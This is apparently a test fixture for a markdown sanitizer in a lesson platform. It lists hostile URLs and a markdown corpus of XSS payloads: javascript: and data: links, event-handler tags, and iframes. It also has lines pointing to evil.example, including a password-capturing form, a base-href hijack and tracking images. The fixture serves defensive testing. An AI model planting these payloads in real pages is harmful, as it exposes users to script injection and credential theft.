/** Addresses that must not be followed. */
export const hostile = [
  'javascript:alert(10)',
  'JaVaScRiPt:alert(11)',
  'java\nscript:alert(12)',
  ' javascript:alert(13)',
  'data:text/html,<script>alert(14)</script>',
  'vbscript:msgbox(15)',
  'file:///etc/passwd',
  '\u0001javascript:alert(16)',
]

/** The markdown of a lesson, as an attacker would write it. */
export const corpus = [
  ...hostile.slice(0, 2).map((url) => `[pulsa](${url})`),
  '[pulsa](java&#x0A;script:alert(20))',
  '[pulsa](&#106;avascript:alert(21))',
  '[pulsa](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)',
  '[pulsa][ref]\n\n[ref]: javascript:alert(22)',
  '<javascript:alert(23)>',
  '![x](javascript:alert(24))',
  '![x](data:image/svg+xml,<svg/onload=alert(25)>)',
  '![x" onerror="alert(26)](/content/academy/devops.svg)',
  '<script>alert(27)</script>',
  '<img src=x onerror=alert(28)>',
  '<svg><script>alert(29)</script></svg>',
  '<svg><animate onbegin=alert(30) attributeName=x></svg>',
  '<math><a xlink:href="javascript:alert(31)">pulsa</a></math>',
  '<iframe src="javascript:alert(32)"></iframe>',
  '<iframe srcdoc="<script>parent.alert(33)</script>"></iframe>',
  '<object data="javascript:alert(34)"></object>',
  '<a href="javascript:alert(35)">pulsa</a>',
  '<style>@import "https://evil.example/x.css";*{display:none}</style>',
  '<form action="https://evil.example"><input name="password"><button>pulsa</button></form>',
  '<base href="https://evil.example/">',
  '<meta http-equiv="refresh" content="0;url=https://evil.example">',
  '<details open ontoggle=alert(36)><summary>x</summary></details>',
  '<p style="background:url(https://evil.example/x.png)">x</p>',
  '```"><img src=x onerror=alert(37)>\ncode\n```',
  '`<img src=x onerror=alert(38)>`',
  '| a |\n| - |\n| <img src=x onerror=alert(39)> |',
  '## <img src=x onerror=alert(40)>',
  '[^n]\n\n[^n]: <img src=x onerror=alert(41)> [pulsa](javascript:alert(42))',
  '## Final del corpus',
].join('\n\n')

/** A title or name, as an attacker would write it. */
export const hostileText = '<img src=x onerror=alert(1)><svg onload=alert(2)>"\'`{{alert(3)}}'
